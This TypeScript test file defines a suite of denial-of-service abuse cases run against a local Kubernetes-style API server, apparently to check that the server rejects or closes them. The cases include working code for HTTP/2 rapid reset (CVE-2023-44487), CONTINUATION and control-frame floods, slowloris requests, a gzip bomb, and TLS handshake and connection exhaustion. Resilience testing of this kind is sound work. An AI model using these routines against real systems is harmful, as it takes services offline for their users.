import { once } from 'node:events';
import { connect as connectTcp, type Socket } from 'node:net';
import type { TLSSocket } from 'node:tls';
import { gzipSync } from 'node:zlib';
import { inNamespace, type Abuse, type AbuseContext } from '../support/abuse.ts';
import { flood, floodOf, pause, repeat } from '../support/sending.ts';
import { endHeaders, endStream, frame, headerBlock, preface } from './frames.ts';

const secrets = inNamespace('secrets');
const decided = ['2xx', '4xx', 'closed'] as const;
const mib = 1024 * 1024;

/** Waits until the peer has taken what was written, is gone, or reads no more. */
async function write(socket: Socket, bytes: Buffer | string): Promise<boolean> {
  if (socket.destroyed || !socket.writable) return false;
  if (socket.write(bytes)) return true;
  const drained = once(socket, 'drain').then(() => true);
  const gone = once(socket, 'close').then(() => false);
  return Promise.race([drained, gone, pause(2000).then(() => false)]).catch(() => false);
}

interface Holding {
  readonly connections: number;
  readonly parallel?: number;
  readonly holdMs?: number;
}

/** Opens connections, begins something on each, and holds them. */
const hold =
  (
    begin: (socket: TLSSocket, i: number) => unknown,
    { connections, parallel = 16, holdMs = 2000 }: Holding,
  ) =>
  async ({ client, tally, ...context }: AbuseContext): Promise<void> => {
    await repeat(
      context,
      async i => {
        try {
          const socket = await client.tls();
          tally.add('connected');
          socket.once('close', () => tally.add('closed'));
          socket.resume();
          await begin(socket, i);
        } catch {
          tally.add('closed');
        }
      },
      { parallel, count: connections, forMs: 12_000 },
    );
    await pause(holdMs);
  };

const head = (method: string, path: string, ...lines: string[]): string =>
  `${[`${method} ${path} HTTP/1.1`, 'host: 127.0.0.1', ...lines].join('\r\n')}\r\n\r\n`;

/** Frames on connections of HTTP/2, by hand. */
const frames =
  (
    send: (socket: TLSSocket, context: AbuseContext) => Promise<unknown>,
    { connections = 4 } = {},
  ) =>
  async (context: AbuseContext): Promise<void> =>
    repeat(
      context,
      async () => {
        const socket = await context.client.tls('h2');
        socket.resume();
        socket.once('close', () => context.tally.add('closed'));
        await write(socket, Buffer.concat([preface, frame('settings', 0)]));
        await send(socket, context);
        socket.destroy();
      },
      { parallel: connections, count: connections * 2, forMs: 2000 },
    );

/** As fast as the server takes them, for two seconds or until it has enough. */
async function pour(socket: Socket, bytes: Buffer, limit = 32 * mib): Promise<void> {
  const until = performance.now() + 2000;
  for (let sent = 0; sent < limit && performance.now() < until; sent += bytes.length) {
    if (!(await write(socket, bytes))) return;
  }
}

const many = (of: Buffer, count: number): Buffer =>
  Buffer.concat(Array.from({ length: count }, () => of));

const request = headerBlock({
  ':method': 'GET',
  ':scheme': 'https',
  ':authority': '127.0.0.1',
  ':path': secrets,
});

export const connections: readonly Abuse[] = [
  {
    name: '2,000 POSTs reset in the middle of their body, HTTP/1.1',
    sender: 'anonymous',
    expects: ['closed'],
    quick: true,
    send: async ({ client, tally, ...context }) => {
      const post = head('POST', secrets, 'content-type: application/json', 'content-length: 1000');
      await repeat(
        context,
        async () => {
          const connection = await client.resettable().catch(() => undefined);
          if (connection !== undefined) {
            await write(connection.socket, `${post}{"metadata":`);
            connection.reset();
          }
          tally.add('closed');
        },
        { parallel: 16, count: 2000, forMs: 5000 },
      );
    },
  },
  {
    name: '20,000 POSTs reset in the middle of their body, HTTP/2',
    sender: 'pod token',
    expects: decided,
    quick: true,
    send: async ({ client, tally, ...context }) => {
      let session = client.http2();
      await repeat(
        context,
        () =>
          new Promise<void>(resolve => {
            if (session.destroyed || session.closed) session = client.http2();
            const stream = session.request({
              ...client.authorization,
              ':method': 'POST',
              ':path': '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews',
              'content-type': 'application/json',
            });
            stream.on('error', () => undefined);
            stream.once('close', () => {
              tally.add('closed');
              resolve();
            });
            stream.write('{"spec":', () => stream.close(8));
          }),
        { parallel: 64, count: 20_000, forMs: 4000 },
      );
    },
  },
  {
    name: 'streams opened and reset at once (CVE-2023-44487)',
    sender: 'anonymous',
    expects: ['closed'],
    quick: true,
    send: frames(async socket => {
      const until = performance.now() + 2000;
      for (let first = 1; first < 100_000 && performance.now() < until; first += 200) {
        const batch: Buffer[] = [];
        for (let id = first; id < first + 200; id += 2) {
          batch.push(
            frame('headers', id, request, endHeaders + endStream),
            frame('rstStream', id, Buffer.from([0, 0, 0, 8])),
          );
        }
        if (!(await write(socket, Buffer.concat(batch)))) return;
      }
    }),
  },
  {
    name: 'a flood of PING',
    sender: 'anonymous',
    expects: ['closed'],
    send: frames(socket => pour(socket, many(frame('ping', 0, Buffer.alloc(8)), 1000))),
  },
  {
    name: 'a flood of SETTINGS',
    sender: 'anonymous',
    expects: ['closed'],
    send: frames(socket => pour(socket, many(frame('settings', 0), 1000))),
  },
  {
    name: 'a flood of SETTINGS whose answers are never read',
    sender: 'anonymous',
    expects: ['closed'],
    send: frames(socket => {
      socket.pause();
      return pour(socket, many(frame('settings', 0), 1000));
    }),
  },
  {
    name: 'a flood of PRIORITY',
    sender: 'anonymous',
    expects: ['closed'],
    send: frames(socket =>
      pour(socket, many(frame('priority', 3, Buffer.from([0, 0, 0, 1, 16])), 1000)),
    ),
  },
  {
    name: 'a flood of WINDOW_UPDATE',
    sender: 'anonymous',
    expects: ['closed'],
    send: frames(socket =>
      pour(socket, many(frame('windowUpdate', 0, Buffer.from([0, 0, 0, 1])), 1000), 16 * mib),
    ),
  },
  {
    name: 'CONTINUATION frames without end (CVE-2024-27983)',
    sender: 'anonymous',
    expects: ['closed'],
    send: frames(async socket => {
      await write(socket, frame('headers', 1, request, endStream));
      const more = headerBlock({ 'x-more': 'x'.repeat(1000) });
      await pour(socket, many(frame('continuation', 1, more), 100));
    }),
  },
  {
    name: 'empty DATA frames without end',
    sender: 'anonymous',
    expects: ['closed'],
    send: frames(async socket => {
      const post = headerBlock({
        ':method': 'POST',
        ':scheme': 'https',
        ':authority': '127.0.0.1',
        ':path': secrets,
      });
      await write(socket, frame('headers', 1, post, endHeaders));
      await pour(socket, many(frame('data', 1), 1000), 16 * mib);
    }),
  },
  {
    name: 'streams whose window is never opened',
    sender: 'anonymous',
    expects: ['closed'],
    send: frames(async socket => {
      // SETTINGS_INITIAL_WINDOW_SIZE 0
      await write(socket, frame('settings', 0, Buffer.from([0, 4, 0, 0, 0, 0])));
      for (let id = 1; id < 10_000; id += 2) {
        if (!(await write(socket, frame('headers', id, request, endHeaders + endStream)))) return;
      }
      await pause(1000);
    }),
  },
  {
    name: 'header fields of 10 MB, HTTP/2',
    sender: 'anonymous',
    expects: ['closed'],
    send: frames(async socket => {
      for (let id = 1; id < 400; id += 2) {
        const block = Buffer.concat([request, headerBlock({ 'x-large': 'x'.repeat(15_000) })]);
        if (!(await write(socket, frame('headers', id, block, endHeaders + endStream)))) return;
      }
    }),
  },
  {
    name: 'headers of 1 MB, HTTP/1.1',
    sender: 'anonymous',
    expects: ['4xx', 'closed'],
    send: flood({ path: '/version', headers: { 'x-large': 'x'.repeat(mib) } }, { parallel: 16 }),
  },
  {
    name: '10,000 header fields, HTTP/1.1',
    sender: 'anonymous',
    expects: ['2xx', '4xx', 'closed'],
    send: flood(
      {
        path: '/version',
        headers: Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`x-${i}`, ''])),
      },
      { parallel: 16 },
    ),
  },
  {
    name: '500 requests whose head comes byte by byte',
    sender: 'anonymous',
    expects: ['connected', 'closed'],
    send: hold(
      socket => {
        const bytes = head('GET', '/version', `x-slow: ${'x'.repeat(1000)}`);
        let at = 0;
        const timer = setInterval(() => {
          if (socket.destroyed) clearInterval(timer);
          else socket.write(bytes[at++ % bytes.length] ?? '');
        }, 250);
        socket.once('close', () => clearInterval(timer));
      },
      { connections: 500 },
    ),
  },
  {
    name: '500 requests whose body comes byte by byte',
    sender: 'pod token',
    expects: ['connected', 'closed'],
    send: async context => {
      const { client } = context;
      const authorization = `authorization: ${client.authorization['authorization']}`;
      await hold(
        async socket => {
          await write(
            socket,
            head(
              'POST',
              '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews',
              authorization,
              'content-type: application/json',
              `content-length: ${mib}`,
            ),
          );
          const timer = setInterval(() => {
            if (socket.destroyed) clearInterval(timer);
            else socket.write(' ');
          }, 250);
          socket.once('close', () => clearInterval(timer));
        },
        { connections: 500 },
      )(context);
    },
  },
  {
    name: '3,000 idle connections',
    sender: 'anonymous',
    expects: ['connected', 'closed'],
    send: hold(() => undefined, { connections: 3000 }),
  },
  {
    name: '1,000 idle connections of HTTP/2',
    sender: 'anonymous',
    expects: ['2xx', 'connected', 'closed'],
    send: async ({ client, tally, ...context }) => {
      await repeat(
        context,
        async () => {
          const socket = await client.tls('h2').catch(() => undefined);
          tally.add(socket === undefined ? 'closed' : 'connected');
          socket?.write(Buffer.concat([preface, frame('settings', 0)]));
        },
        { parallel: 16, count: 1000, forMs: 8000 },
      );
      await pause(1000);
    },
  },
  {
    name: '200 bodies of 3 MB, each short of its last byte',
    sender: 'pod token',
    expects: ['connected', 'closed'],
    send: async context => {
      const { client } = context;
      const body = Buffer.alloc(3 * mib - 1, 0x20);
      await hold(
        socket =>
          write(
            socket,
            Buffer.concat([
              Buffer.from(
                head(
                  'POST',
                  '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews',
                  `authorization: ${client.authorization['authorization']}`,
                  'content-type: application/json',
                  `content-length: ${body.length + 1}`,
                ),
              ),
              body,
            ]),
          ),
        { connections: 200, parallel: 32 },
      )(context);
    },
  },
  {
    name: '64 bodies of 3 MB at once, again and again',
    sender: 'pod token',
    expects: decided,
    send: flood(
      () => ({
        method: 'POST',
        path: '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews',
        body: `{"spec":{"resourceAttributes":{"name":"${'n'.repeat(3 * mib - 1000)}"}}}`,
      }),
      { parallel: 64, count: 400, forMs: 4000 },
    ),
  },
  {
    name: '64 bodies of 3 MB at once by those who may not send any',
    sender: 'anonymous',
    expects: decided,
    send: flood(
      () => ({ method: 'POST', path: secrets, body: Buffer.alloc(3 * mib - 1000, 0x20) }),
      { parallel: 64, count: 400, forMs: 4000 },
    ),
  },
  {
    name: 'bodies in chunks without end',
    sender: 'pod token',
    expects: ['connected', 'closed'],
    send: async context => {
      const { client } = context;
      const chunk = Buffer.concat([
        Buffer.from('10000\r\n'),
        Buffer.alloc(65_536, 0x20),
        Buffer.from('\r\n'),
      ]);
      await hold(
        async socket => {
          await write(
            socket,
            head(
              'POST',
              '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews',
              `authorization: ${client.authorization['authorization']}`,
              'content-type: application/json',
              'transfer-encoding: chunked',
            ),
          );
          await pour(socket, chunk, 64 * mib);
        },
        { connections: 16, parallel: 8, holdMs: 0 },
      )(context);
    },
  },
  {
    name: 'chunks of one byte with extensions of 10,000',
    sender: 'pod token',
    expects: ['connected', 'closed'],
    send: hold(
      async socket => {
        await write(socket, head('POST', secrets, 'transfer-encoding: chunked'));
        await pour(socket, Buffer.from(`1;${'e'.repeat(10_000)}\r\nx\r\n`), 16 * mib);
      },
      { connections: 16, parallel: 8, holdMs: 0 },
    ),
  },
  {
    name: 'bodies of 3 MB that are 3 GB without gzip',
    sender: 'pod token',
    expects: decided,
    send: flood(
      () => ({
        method: 'POST',
        path: '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews',
        body: many(gzipSync(Buffer.alloc(100 * mib, 0x20)), 30).subarray(0, 3 * mib - 1),
        headers: { 'content-encoding': 'gzip' },
      }),
      { count: 16 },
    ),
  },
  {
    name: '2,000 TLS handshakes that are left',
    sender: 'anonymous',
    expects: ['closed'],
    send: async ({ tally, port, ...context }) => {
      const held: Socket[] = [];
      // A record that announces a ClientHello of 512 bytes and does not bring it.
      const begun = Buffer.from([0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]);
      await repeat(
        context,
        i =>
          new Promise<void>(resolve => {
            const socket = connectTcp(port, '127.0.0.1', () => {
              socket.write(i % 3 === 0 ? 'GET / HTTP/1.1\r\n\r\n' : begun);
              resolve();
            });
            held.push(socket);
            socket.resume();
            socket.on('error', () => undefined);
            socket.once('close', () => {
              tally.add('closed');
              resolve();
            });
            if (i % 3 === 1) setTimeout(() => socket.resetAndDestroy(), 10);
          }),
        { parallel: 64, count: 2000, forMs: 5000 },
      );
      await pause(1000);
      for (const socket of held) socket.destroy();
    },
  },
  {
    name: 'TLS handshakes, as many as can be made',
    sender: 'anonymous',
    expects: ['connected', 'closed'],
    send: async ({ client, tally, ...context }) =>
      repeat(
        context,
        async () => {
          const socket = await client.tls().catch(() => undefined);
          tally.add(socket === undefined ? 'closed' : 'connected');
          socket?.destroy();
        },
        { parallel: 128, forMs: 4000 },
      ),
  },
  {
    name: '500 upgrades that never go on',
    sender: 'namespace admin',
    expects: ['connected', 'closed'],
    send: hold(
      socket =>
        write(
          socket,
          head(
            'POST',
            `${inNamespace('pods')}/none/exec?command=sh`,
            'connection: Upgrade',
            'upgrade: SPDY/3.1',
          ),
        ),
      { connections: 500 },
    ),
  },
  {
    name: '500 upgrades by nobody, to nowhere',
    sender: 'anonymous',
    expects: ['connected', 'closed'],
    send: hold(
      (socket, i) =>
        write(
          socket,
          head(
            'GET',
            ['/', '/api/v1/constructor', `${inNamespace('pods')}/x/exec`, '/%00'][i % 4] as string,
            'connection: Upgrade',
            'upgrade: websocket',
          ),
        ),
      { connections: 500 },
    ),
  },
  {
    name: 'CONNECT, TRACE, expectations and pipelines of 1,000 requests',
    sender: 'anonymous',
    expects: ['connected', 'closed'],
    send: hold(
      async (socket, i) => {
        if (i % 4 === 0) await write(socket, head('CONNECT', '127.0.0.1:443'));
        else if (i % 4 === 1) await write(socket, head('TRACE', '/'));
        else if (i % 4 === 2) {
          const expecting = ['expect: 100-continue', 'content-length: 100'];
          await write(socket, head('POST', secrets, ...expecting));
        } else await write(socket, head('GET', '/version').repeat(1000));
      },
      { connections: 64 },
    ),
  },
  {
    name: 'requests of one new connection each',
    sender: 'user',
    expects: decided,
    send: floodOf(() => ({ path: secrets, headers: { connection: 'close' } }), { parallel: 16 }),
  },
];
